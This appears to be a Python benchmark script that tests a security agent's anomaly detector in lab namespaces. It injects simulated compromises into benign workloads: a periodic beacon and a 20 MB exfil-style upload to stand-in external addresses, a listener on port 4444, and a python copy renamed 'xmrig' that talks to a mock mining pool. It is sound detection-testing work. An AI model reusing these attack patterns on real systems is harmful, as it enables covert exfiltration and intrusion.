"""The live run of the anomaly path, in namespaces, confirming bench/anomaly_eval.py's
replayed figures on a shorter span: a real `swarm-agent run` (lab victim namespace) with
the real activity probe and the real anomaly engine, benign loops and injected behaviours
made by real processes in their own cgroups.

Warm-up (not a pre-trained state): the engine runs with window_s 1, warmup_s --warmup-s,
warmup_windows 10, and the behaviours start once mahalanobis alerts (its tail fit needs
~200 scored windows) -- a much shorter warm-up than shipped (1 h, 500 windows), so its
thresholds rest on few windows; the figure is a check of the live path, the replay is the
figure for false alarms per node-day. Benign workloads (each its own cgroup, started
before the warm-up): `scrape` (a metrics-like scrape of the attacker side every 1 s, an
internal address), `web` (a service in the victim namespace, clients from the attacker
namespace at random times), `cron` (/bin/true, /bin/date every 3 s), `batch` (a job that
posts a small result every 2-4 s). After the warm-up, one behaviour each --gap-s, each
inside one benign workload (a compromised workload):
  beacon    web:   a connection every 1.5 s +-10 % to 198.51.100.7:443 (external)
  exfil     cron:  20 MB in one connection to 198.51.100.20:443, never seen before
  listener  scrape: a new listener on 4444
  miner     batch: a new binary (a copy of python named xmrig) connecting to a pool
                   203.0.113.9:3333 and sending a share every 0.3 s
Measured per behaviour: the time from its first action (wall clock taken just before it
starts) to the suspicious_activity incident on its workload (the incident's detected_at,
read with the CLI), or "missed" after --wait-s; false investigations: incidents on the
bench's benign workloads before their behaviour started (other cgroups on a shared host
are reported separately, not counted: this host's other processes are not the bench's).
Invalid run (exit 1): the activity probe not loaded, or a window model still in shadow
when the behaviours start (the warm-up did not finish: the figure would measure nothing).

    .venv/bin/python bench/anomaly_live.py --quick          # ~2 min
    .venv/bin/python bench/anomaly_live.py --json           # warm-up 120 s
"""
from __future__ import annotations

import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from contextlib import ExitStack
from pathlib import Path

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from swarmlab.breachlab import cgroup_path, throwaway_cgroup  # noqa: E402
from swarmlab.lab import Lab, sh, spawn_in  # noqa: E402
from swarmlab.scenario import AgentProcess  # noqa: E402
from swarmlab.sink import SINK  # noqa: E402

PY = sys.executable
C2, EXFIL, POOL = "198.51.100.7", "198.51.100.20", "203.0.113.9"
# Periodic client: dst port period jitter(0..1) bytes count
CLIENT = """
import random, socket, sys, time
dst, port, period, jit, size, n = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), \\
    float(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
rng = random.Random(port)
for _ in range(n):
    try:
        with socket.create_connection((dst, port), timeout=5) as s:
            s.sendall(b"x" * size)
    except OSError:
        pass
    time.sleep(period * rng.uniform(1 - jit, 1 + jit))
"""
WEB = """
import socket, threading
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 8080)); srv.listen(64)
def one(c):
    c.recv(4096); c.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nok"); c.close()
while True:
    c, _ = srv.accept()
    threading.Thread(target=one, args=(c,), daemon=True).start()
"""
POISSON = """
import random, socket, sys, time
rng = random.Random(7)
for _ in range(int(sys.argv[2])):
    time.sleep(rng.expovariate(1.0))
    try:
        with socket.create_connection((sys.argv[1], 8080), timeout=5) as s:
            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); s.recv(4096)
    except OSError:
        pass
"""
CRON = "for i in $(seq {n}); do /bin/true; /bin/date >/dev/null; sleep 3; done"
LISTEN = """
import socket, time
s = socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen(); time.sleep(600)
"""


def cli(agent: AgentProcess, *args: str):
    exe = str(Path(shutil.which("swarm-agent") or ".venv/bin/swarm-agent"))
    out = subprocess.run([exe, *args, "--json", "--config", str(agent.config_path)],
                         capture_output=True, text=True, timeout=30)
    if out.returncode != 0:
        raise SystemExit(f"swarm-agent {args[0]} failed: {out.stderr.strip()}")
    return json.loads(out.stdout)


def suspicious(agent: AgentProcess) -> list[dict]:
    return [i for i in cli(agent, "incidents") if i["event_class"] == "suspicious_activity"]


def run(a: argparse.Namespace) -> dict:
    span_s = a.warmup_s + a.warm_max_s + 4 * a.gap_s + a.wait_s + 30
    with Lab() as lab, ExitStack() as stack, tempfile.TemporaryDirectory() as tmp:
        procs: list[subprocess.Popen] = []
        stack.callback(lambda: [(p.kill(), p.wait(10)) for p in procs])
        for addr in (C2, EXFIL, POOL):
            sh("ip", "addr", "add", f"{addr}/32", "dev", "lo", ns=lab.attacker)
        att, vic = lab.addr("attacker"), lab.addr("victim")
        srv = spawn_in(lab.attacker, PY, "-c", SINK, "0.0.0.0", "3600", "443", "3333", "9100")
        procs.append(srv)
        assert srv.stdout.readline().strip() == "ready"
        agent = AgentProcess(lab.victim, Path(tmp), (
            "investigation: {refresh_s: 3600}\n"
            f"anomaly: {{window_s: 1, warmup_s: {a.warmup_s}, warmup_windows: 10, "
            "dedup_s: 3600}\n"))
        agent.start()
        stack.callback(agent.stop)
        probes = cli(agent, "status")["probes"]
        invalid = []
        if not any("activity" in p["name"] and p["state"] == "loaded" for p in probes):
            invalid.append("the activity probe is not loaded here")
        cg = {n: stack.enter_context(throwaway_cgroup(f"swa-live-{n}"))
              for n in ("scrape", "web", "cron", "batch")}
        n = int(span_s) + 60
        procs += [
            spawn_in(lab.victim, PY, "-c", CLIENT, att, "9100", "1", "0.05", "100", str(n),
                     cgroup=cg["scrape"]),
            spawn_in(lab.victim, PY, "-c", WEB, cgroup=cg["web"]),
            spawn_in(lab.victim, "/bin/sh", "-c", CRON.format(n=n // 3), cgroup=cg["cron"]),
            spawn_in(lab.victim, PY, "-c", CLIENT, att, "443", "3", "0.33", "2000", str(n),
                     cgroup=cg["batch"])]
        time.sleep(1)
        procs.append(spawn_in(lab.attacker, PY, "-c", POISSON, vic, str(n)))
        t_start = time.time()
        time.sleep(a.warmup_s)
        # The model alerts once warm and calibrated (a tail fit needs ~200 scored windows).
        for _ in range(int(a.warm_max_s / 0.5)):
            counters = cli(agent, "status")["counters"]
            shadow = [d for d in ("mahalanobis",)
                      if not int(counters.get(f"anomaly.{d}.alerting", 0))]
            if not shadow:
                break
            time.sleep(0.5)
        warm_s = time.time() - t_start
        if shadow:
            invalid.append(f"still in shadow when the behaviours start: {', '.join(shadow)} "
                           f"({counters.get('anomaly.mahalanobis.windows', 0)} windows scored)")
        miner = Path(tmp) / "xmrig"
        shutil.copy(PY, miner)
        plan = [("beacon", "web", [PY, "-c", CLIENT, C2, "443", "1.5", "0.1", "300", "60"]),
                ("exfil", "cron", [PY, "-c", CLIENT, EXFIL, "443", "1", "0", str(20 << 20), "1"]),
                ("listener", "scrape", [PY, "-c", LISTEN]),
                ("miner", "batch", [str(miner), "-c", CLIENT, POOL, "3333", "0.3", "0.1",
                                    "200", "400"])]
        started: dict[str, float] = {}
        for name, where, argv in plan:
            started[name] = time.time()
            procs.append(spawn_in(lab.victim, *argv, cgroup=cg[where]))
            time.sleep(a.gap_s)
        deadline = max(started.values()) + a.wait_s
        found: dict[str, float] = {}
        rules: dict[str, list[str]] = {}
        while time.time() < deadline and len(found) < len(plan):
            for inc in suspicious(agent):
                for name, where, _ in plan:
                    if name not in found and inc["entity"] == f"cgroup:{cgroup_path(cg[where])}" \
                            and inc["detected_at"] >= started[name]:
                        found[name] = inc["detected_at"] - started[name]
                        rules[name] = inc["rules"]
            time.sleep(0.5)
        mine = {f"cgroup:{cgroup_path(c)}": w for w, c in cg.items()}
        when = {w: started[n] for n, w, _ in plan}
        incs = suspicious(agent)
        false = [i for i in incs if i["entity"] in mine and i["detected_at"] < when[mine[i["entity"]]]]
        other = [i for i in incs if i["entity"] not in mine]
        return {"warmup_s": a.warmup_s, "gap_s": a.gap_s, "span_s": round(time.time() - t_start),
                "warm_after_s": round(warm_s, 1), "invalid": invalid,
                "behaviours": {n: {"workload": w, "seconds": None if n not in found
                                   else round(found[n], 1),
                                   "rules": rules.get(n, [])} for n, w, _ in plan},
                "false_investigations": [{"entity": i["entity"], "rules": i["rules"]}
                                         for i in false],
                "other_host_incidents": len(other)}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--quick", action="store_true", help="warm-up 60 s, behaviours 10 s apart")
    ap.add_argument("--warmup-s", type=int, default=120)
    ap.add_argument("--gap-s", type=int, default=20)
    ap.add_argument("--wait-s", type=int, default=60, help="how long a behaviour may take")
    ap.add_argument("--warm-max-s", type=int, default=300,
                    help="after the warm-up, how long to wait for the models to alert")
    ap.add_argument("--json", action="store_true")
    a = ap.parse_args()
    if a.quick:
        a.warmup_s, a.gap_s = 60, 10
    if os.geteuid() != 0:
        print("anomaly_live: run as root (namespaces, cgroups, BPF)", file=sys.stderr)
        return 2
    out = run(a)
    if a.json:
        print(json.dumps(out, indent=2))
    else:
        print(f"live anomaly run: warm-up {out['warmup_s']} s (alerting after "
              f"{out['warm_after_s']} s), span {out['span_s']} s")
        for n, b in out["behaviours"].items():
            t = "missed" if b["seconds"] is None else f"{b['seconds']} s"
            print(f"  {n:<9} (in {b['workload']}): investigation after {t} "
                  f"{','.join(b['rules'])}")
        print(f"  false investigations on the bench's benign workloads: "
              f"{len(out['false_investigations'])} {out['false_investigations'] or ''}")
        print(f"  incidents on other cgroups of this host (not counted): "
              f"{out['other_host_incidents']}")
        for r in out["invalid"]:
            print(f"  INVALID: {r}")
    return 1 if out["invalid"] else 0


if __name__ == "__main__":
    sys.exit(main())
